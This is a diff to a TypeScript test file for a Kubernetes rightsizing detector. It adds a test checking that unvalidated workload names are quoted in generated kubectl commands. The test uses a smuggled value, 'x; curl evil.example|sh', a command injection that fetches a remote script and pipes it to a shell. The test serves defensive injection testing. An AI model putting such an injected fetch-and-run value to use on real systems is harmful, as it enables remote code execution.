@@ -26,6 +26,7 @@ function play(
   days: number,
   sample: (time: TimeMs, pod: number) => Partial<ContainerSample>,
   objects: Snapshot['objects'] = null,
+  workload = { kind: 'Deployment', name: 'web' },
 ) {
   const run = new DetectorRun<RightsizeState>(overprovisionedDetector, { historyStart: START });
   for (let time = START; time < START + days * DAY_MS; time += WINDOW) {
@@ -35,7 +36,7 @@ function play(
         uid: `uid-${pod}`,
         namespace: 'shop',
         node: 'n1',
-        workload: { kind: 'Deployment', name: 'web' },
+        workload,
         containers: [
           aContainer({
             name: 'app',
@@ -70,6 +71,17 @@ describe('overprovisioned', () => {
       'burnwatch recommend --namespace shop -o patch',
       'kubectl -n shop set resources deployment/web -c app --requests=cpu=120m,memory=230Mi',
     ]);
+  });
+
+  it.each([
+    [
+      'Deployment',
+      "kubectl -n shop set resources 'deployment/x; curl evil.example|sh' -c app --requests=cpu=120m,memory=230Mi",
+    ],
+    ['constructor', undefined],
+  ])('quotes names that the API server does not check, of an owner of kind %s', (kind, command) => {
+    const run = play(7, () => ({}), null, { kind, name: 'x; curl evil.example|sh' });
+    expect(run.opened[0]?.verdict.next[1]?.command).toBe(command);
   });
 
   it('starts anew when the waste pauses before it is due', () => {
